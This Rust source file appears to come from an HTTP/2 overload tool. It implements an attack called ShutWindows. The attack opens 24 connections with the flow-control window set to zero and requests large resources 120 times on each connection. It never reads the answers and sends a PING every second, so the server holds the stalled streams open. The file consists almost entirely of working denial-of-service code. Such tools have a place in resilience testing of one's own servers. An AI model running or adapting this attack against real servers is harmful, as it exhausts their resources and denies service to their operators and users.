//! Large answers over HTTP/2 that are asked for and never read: the window stays shut, and a PING now and then says that
//! somebody is there.

use std::time::Duration;

use async_trait::async_trait;
use tokio::io::AsyncWriteExt as _;
use tokio::time::timeout;

use crate::overload::attack::{Attack, Attackers, PAUSE, drain};
use crate::overload::frames::{get, ping, preface, stream as id};

const CONNECTIONS: usize = 24;
/// On each of them.
const REQUESTS: u32 = 120;
/// Between two PINGs.
const ALIVE: Duration = Duration::from_secs(1);

pub(crate) struct ShutWindows;

#[async_trait]
impl Attack for ShutWindows {
    async fn run(&self, by: Attackers) {
        let begun = async |by: Attackers, number| {
            let mut stream = by.connect(number).await?;
            let big = &by.target.big;
            let path = |n: u32| &big[usize::try_from(n).unwrap() % big.len()];
            let requests = (0..REQUESTS).flat_map(|n| get(id(n), &by.target.authority, path(n)));
            let sent = [preface(Some(0)), requests.collect()].concat();
            stream.write_all(&sent).await?;
            by.sent(REQUESTS.into());
            loop {
                if let Ok(ended) = timeout(ALIVE, drain(&mut stream)).await {
                    return ended;
                }
                stream.write_all(&ping()).await?;
            }
        };
        by.many(CONNECTIONS, PAUSE, begun).await;
    }
}
